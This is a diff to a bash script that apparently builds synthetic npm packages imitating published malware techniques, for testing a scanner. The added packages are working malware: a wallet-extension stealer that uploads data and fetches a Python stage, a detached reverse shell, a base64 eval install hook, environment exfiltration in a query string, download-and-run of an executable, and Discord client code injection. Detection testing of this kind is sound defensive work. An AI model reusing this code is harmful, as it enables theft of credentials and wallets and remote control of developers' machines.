@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# npm generalisation probe: 19 small synthetic npm packages, each using one technique of
+# npm generalisation probe: 25 small synthetic npm packages, each using one technique of
 # published npm malware campaigns (dependency-confusion recon, install-script droppers,
 # token and wallet stealers, worm-style credential harvesting, obfuscated loaders), and a
 # few benign controls. Written from public reports, not copied from samples. Scanned with
@@ -263,6 +263,58 @@ mk mal-drainer '{}' index.js <<'EOF'
   };
 })();
 module.exports = function chalk(s) { return s; };
+EOF
+# 2023-2025 techniques: a wallet-extension stealer that fetches a Python second stage
+# (Lazarus BeaverTail), a detached child left running after install, an inline
+# `node -e` install script, the whole environment in a query string, a downloaded
+# executable run on install, Discord client injection (code written into its core module).
+mk mal-beavertail '{}' index.js <<'EOF'
+const fs = require('fs'), os = require('os'), path = require('path'), { exec } = require('child_process');
+const base = os.homedir() + '/AppData/Local/Google/Chrome/User Data';
+const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
+function upload(files) {
+  const form = { type: '0', hid: os.hostname(), multi_file: files };
+  require('request').post({ url: 'http://95.164.17.24:1224/uploads', formData: form });
+}
+function pdown() {
+  exec(`curl -Lo "${os.tmpdir()}/p.zi" "http://95.164.17.24:1224/pdown"`, () => {
+    exec(`tar -xf ${os.tmpdir()}/p.zi -C ${os.homedir()} && python ${os.homedir()}/.pyp/main.py`);
+  });
+}
+module.exports = { run: () => { const f = ids.map(i => path.join(base, 'Default/Local Extension Settings', i)); upload(f); pdown(); } };
+EOF
+mk mal-detached '{"postinstall": "node setup.js"}' setup.js <<'EOF'
+const { spawn } = require('child_process');
+const path = require('path');
+const child = spawn(process.execPath, [path.join(__dirname, 'lib', 'svc.js')], { detached: true, stdio: 'ignore' });
+child.unref();
+EOF
+mkdir -p mal-detached/package/lib
+cat > mal-detached/package/lib/svc.js <<'EOF'
+const net = require('net'), { spawn } = require('child_process');
+const c = new net.Socket();
+c.connect(4444, '203.0.113.9', () => { const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
+EOF
+mk mal-node-e '{"preinstall": "node -e \"eval(Buffer.from(process.env.npm_package_config_p || \\\"Y29uc29sZS5sb2coMSk=\\\",\\\"base64\\\").toString())\""}' index.js <<'EOF'
+module.exports = {};
+EOF
+mk mal-env-query '{"postinstall": "node i.js"}' i.js <<'EOF'
+const https = require('https');
+const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
+https.get('https://api.ipify-check.top/e?d=' + body);
+EOF
+mk mal-dl-exe '{"postinstall": "node i.js"}' i.js <<'EOF'
+const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), { execFile } = require('child_process');
+const dest = path.join(os.tmpdir(), 'node-helper.exe');
+https.get('https://cdn-node-helper.top/h.exe', (res) => { const f = fs.createWriteStream(dest); res.pipe(f); f.on('finish', () => { f.close(); execFile(dest); }); });
+EOF
+mk mal-discord-inject '{}' index.js <<'EOF'
+const fs = require('fs'), path = require('path');
+const p = path.join(process.env.LOCALAPPDATA, 'Discord');
+for (const d of fs.readdirSync(p).filter(x => x.startsWith('app-'))) {
+  const core = path.join(p, d, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
+  fs.writeFileSync(core, "require('https').get('https://discord-cdn.example-cdn.top/inject.js', r => { let s=''; r.on('data', c => s += c); r.on('end', () => eval(s)); });\nmodule.exports = require('./core.asar');");
+}
 EOF
 for d in */; do
   d=${d%/}
